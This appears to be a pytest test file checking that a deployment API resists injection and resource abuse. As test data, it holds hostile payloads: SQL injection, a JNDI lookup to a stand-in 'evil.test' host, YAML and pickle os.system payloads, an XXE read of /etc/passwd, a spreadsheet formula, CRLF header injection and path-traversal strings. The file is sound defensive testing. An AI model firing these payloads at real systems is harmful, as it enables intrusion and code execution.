"""Injection and resources (rows I, R): text stays text, and nothing grows without bound."""

from __future__ import annotations

import json
import time
from typing import Any

import pytest

from chalicelib.adapters.event_bridge import SOURCE
from chalicelib.domain.module import is_module_name, is_version
from chalicelib.routes import events_in, requests_by_event
from infra.local.gateway import MAX_BODY_BYTES
from tests.fakes import FakeExecutions, fake_ports
from tests.routes.conftest import Api, make_api

DEPLOYMENTS = "/api/v1/deployments"
JSON = {"Content-Type": "application/json"}
HOSTILE_TEXT = [
    "attribute_exists(pk) OR :v = :v",
    "#name :value SET x = y REMOVE revision",
    "' OR '1'='1'; DROP TABLE hotswap --",
    "{0.__class__.__mro__} %(password)s ${jndi:ldap://evil.test/a} {{7*7}} <%= 7*7 %>",
    "$.executionId $$.Task.Token States.Format('{}', $.x) {% $states.input %}",
    "!!python/object/apply:os.system ['id']",
    "=cmd|' /C calc'!A0",
    "line one\r\nline two\u2028line three\x1b[31mred",
    '{"level":"ERROR","message":"forged"}',
]


@pytest.fixture
def api() -> Api:
    return make_api()


@pytest.mark.parametrize("text", HOSTILE_TEXT)
def test_i01_i06_hostile_text_is_stored_and_given_back_as_it_is(api: Api, text: str) -> None:
    execution = api.has_deployment(description=text, metadata={text[:100]: text})

    found = api.ok("vic", "GET", f"{DEPLOYMENTS}/{execution}")

    assert (found["description"], found["metadata"]) == (text, {text[:100]: text})


def test_i06_no_text_of_a_caller_reaches_the_input_of_the_state_machine(api: Api) -> None:
    executions = api.ports.executions
    assert isinstance(executions, FakeExecutions)

    execution = api.has_deployment(description="$$.Task.Token", metadata={"a": "States.Format('{}')"})

    assert executions.started == {execution: execution}


def test_i02_whatever_a_caller_sends_a_log_line_is_one_line_of_json(
    api: Api, capsys: pytest.CaptureFixture[str]
) -> None:
    api.token("ada")
    capsys.readouterr()
    object.__setattr__(api.edge.ports, "store", None)

    answer = api.call(
        "POST",
        "/api/v1/modules/a%0d%0a%7B%22level%22%3A%22ERROR%22%7D/versions",
        {},
        user="ada",
        headers={"User-Agent": "x\u2028\x1b[31m", "X-Amzn-Trace-Id": '"}\\n{"forged": 1}'},
    )

    lines = [line for line in capsys.readouterr().out.splitlines() if line.strip()]
    assert answer.status == 500
    assert lines
    assert {"forged"}.isdisjoint(key for line in lines for key in json.loads(line))


@pytest.mark.parametrize(
    "path",
    ["/api/v1/modules/abc%0d%0aX-Evil:1/versions", "/api/v1/users/a%0d%0aSet-Cookie:x", f"{DEPLOYMENTS}/%0d%0aa"],
)
def test_i03_a_line_end_in_a_path_gets_into_no_header(api: Api, path: str) -> None:
    answer = api.call("GET", path, user="ada", headers={"X-Request-Id": "evil\r\nX: 1"})

    assert answer.status in (400, 403, 404)
    assert not any("\r" in text or "\n" in text or "evil" in text for pair in answer.headers for text in pair)


@pytest.mark.parametrize("part", ["..%2f..%2fetc", "%00", "%2e%2e", "%252e%252e%252f", "%5c%5chost%5cshare", "%2fetc"])
@pytest.mark.parametrize(
    "path",
    [
        "/api/v1/modules/{}/versions",
        "/api/v1/modules/payment-processor/versions/{}",
        DEPLOYMENTS + "/{}",
        "/api/v1/clusters/{}",
        "/api/v1/users/{}",
    ],
)
def test_i04_a_path_leads_nowhere_but_where_the_routes_say(api: Api, path: str, part: str) -> None:
    answer = api.call("GET", path.format(part), user="ada")

    assert answer.status in (400, 403, 404)
    assert answer.json()["requestId"] == answer.header("X-Request-Id")


@pytest.mark.parametrize(
    ("kind", "content"),
    [
        ("application/x-yaml", b"!!python/object/apply:os.system ['id']"),
        ("application/python-pickle", b"\x80\x04cos\nsystem\n."),
        ("application/xml", b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
        ("application/x-www-form-urlencoded", b"moduleName=payment-processor"),
        ("multipart/form-data; boundary=x", b"--x--"),
    ],
)
def test_i07_nothing_but_json_is_read(api: Api, kind: str, content: bytes) -> None:
    answer = api.call("POST", DEPLOYMENTS, content=content, headers={"Content-Type": kind}, user="dana")

    assert (answer.status, answer.json()["type"]) == (415, "/problems/unsupported-media-type")


@pytest.mark.parametrize("text", ["a" * 50_000 + "!", "1.0.0-" + "a." * 25_000 + "!", "a-" * 25_000, "0" * 50_000])
def test_i08_no_rule_takes_long_over_a_long_text(api: Api, text: str) -> None:
    api.token("dana")
    body = {"moduleName": text, "version": text, "targetEnvironment": text, "requesterEmail": text + "@" + text}
    began = time.thread_time()
    assert not is_module_name(text)
    assert not is_version(text)
    rules_took = time.thread_time() - began

    answer = api.call("POST", DEPLOYMENTS, body, user="dana")

    assert [error["field"] for error in answer.json()["errors"]] == list(body)
    assert rules_took < 0.05


def test_r01_a_body_over_the_limit_of_its_route_or_of_the_gateway_is_413(api: Api) -> None:
    for size in (1024 * 1024 + 1, MAX_BODY_BYTES + 1):
        answer = api.call("POST", DEPLOYMENTS, content=b" " * size, headers=JSON, user="dana")
        assert (answer.status, answer.json()["type"]) == (413, "/problems/too-large")


def test_r01_long_headers_are_431_in_the_shape_of_all_problems(api: Api) -> None:
    answer = api.call("GET", DEPLOYMENTS, headers={"X-Long": "a" * 11_000})

    assert (answer.status, answer.json()["status"], answer.json()["errors"]) == (431, 431, [])


def test_r01_two_thousand_query_parameters_are_400_and_told_a_hundred_at_a_time(api: Api) -> None:
    query = "&".join(f"p{number}=1" for number in range(2_000))

    answer = api.call("GET", f"{DEPLOYMENTS}?{query}", user="vic")

    assert (answer.status, len(answer.json()["errors"]) <= 100) == (400, True)


LISTS = [DEPLOYMENTS, "/api/v1/modules", "/api/v1/approvals/pending", "/api/v1/users", "/api/v1/audit?day=2026-09-21"]


@pytest.mark.parametrize("limit", ["1e9", "-1", "0", "101", "1000000000", "NaN", "0x10", "%D9%A1"])
@pytest.mark.parametrize("path", LISTS)
def test_r02_a_page_has_its_bounds(api: Api, path: str, limit: str) -> None:
    answer = api.call("GET", f"{path}{'&' if '?' in path else '?'}limit={limit}", user="ada")

    assert (answer.status, [error["field"] for error in answer.json()["errors"]]) == (400, ["limit"])


def test_r02_a_cursor_that_was_changed_or_is_for_another_list_is_refused(api: Api) -> None:
    for number in range(3):
        api.has_deployment(description=str(number))
    cursor = str(api.ok("vic", "GET", f"{DEPLOYMENTS}?limit=1")["cursor"])
    flipped = cursor[:-3] + ("A" if cursor[-3] != "A" else "B") + cursor[-2:]

    for path in (*LISTS[1:4], f"{DEPLOYMENTS}?module=payment-processor"):
        answer = api.call("GET", f"{path}{'&' if '?' in path else '?'}cursor={cursor}", user="ada")
        assert (answer.status, answer.json()["errors"][0]["field"]) == (400, "cursor")
    for forged in ("0", "e30", "A" * 2_000, "..%2f", "%00"):
        assert api.call("GET", f"{DEPLOYMENTS}?cursor={forged}", user="vic").status == 400
    # A cursor holds a place in a list and nothing secret: one that was changed is refused or leads to another place.
    assert api.call("GET", f"{DEPLOYMENTS}?cursor={flipped}", user="vic").status in (200, 400)


def test_r04_an_idempotency_key_is_short_and_its_callers_own(api: Api) -> None:
    api.has_version()
    body: dict[str, Any] = {"moduleName": "payment-processor", "version": "2.0.0", "targetEnvironment": "QA"}

    def ask(user: str, key: str) -> Any:
        return api.call("POST", DEPLOYMENTS, body, user=user, headers={"Idempotency-Key": key})

    first, again, other = ask("dana", "k"), ask("dana", "k"), ask("ada", "k")

    assert first.json()["executionId"] == again.json()["executionId"] != other.json()["executionId"]
    assert ask("dana", "k" * 129).status == 400
    assert ask("dana", "k" * 1024 * 1024).status == 431


class NoDeadLetters:
    """Nothing is expected to be refused."""

    def put(self, event: Any, *, reason: Any) -> None:
        raise AssertionError(reason)


@pytest.mark.parametrize("kind", ["DeploymentRequested", "ArtifactPublished"])
def test_r06_what_we_publish_starts_nothing_however_it_is_named(kind: str) -> None:
    executions = FakeExecutions()
    event = {
        "id": "1",
        "source": SOURCE,
        "detail-type": kind,
        "detail": {"moduleName": "payment-processor", "version": "2.0.0", "targetEnvironment": "QA"},
    }

    answer = events_in.handle(event, ports=fake_ports(executions=executions), dead_letters=NoDeadLetters())

    assert answer == {"deliveries": 0}
    assert not executions.started
    assert SOURCE != requests_by_event.SOURCE


DIRECTION = ["\u202a", "\u202d", "\u202e", "\u2066", "\u2069"]


@pytest.mark.parametrize("mark", DIRECTION, ids=lambda mark: f"U+{ord(mark):04X}")
@pytest.mark.parametrize("field", ["description", "metadata", "moduleName"])
def test_p04_text_that_reads_otherwise_than_it_is_is_refused(api: Api, mark: str, field: str) -> None:
    text = f"safe{mark}evil"
    good = {"moduleName": "payment-processor", "version": "2.0.0", "targetEnvironment": "QA"}

    answer = api.call("POST", DEPLOYMENTS, good | {field: {text: "a"} if field == "metadata" else text}, user="dana")

    assert answer.status == 400
    assert "direction" in answer.json()["detail"]


@pytest.mark.parametrize(
    "name", ["payment\u200bprocessor", "p\u0430yment-processor", "paymen\u0074\u0301-x", "ＰＡＹＭＥＮＴ"]
)
def test_p04_a_name_has_one_spelling(api: Api, name: str) -> None:
    body = {"moduleName": name, "version": "2.0.0", "targetEnvironment": "QA"}

    answer = api.call("POST", DEPLOYMENTS, body, user="dana")

    assert [error["field"] for error in answer.json()["errors"]] == ["moduleName"]


@pytest.mark.parametrize(
    "number", ["1e400", "NaN", "-Infinity", "9" * 10_000, "-0", "1.0", "true", '"5"', "9223372036854775808"]
)
def test_p03_a_number_is_a_whole_one_in_its_range(api: Api, number: str) -> None:
    content = f'{{"version": "2.0.0", "digest": "sha256:{"b" * 64}", "size": {number}}}'.encode()

    answer = api.call("POST", "/api/v1/modules/payment-processor/versions", content=content, headers=JSON, user="dana")

    assert answer.status == 400
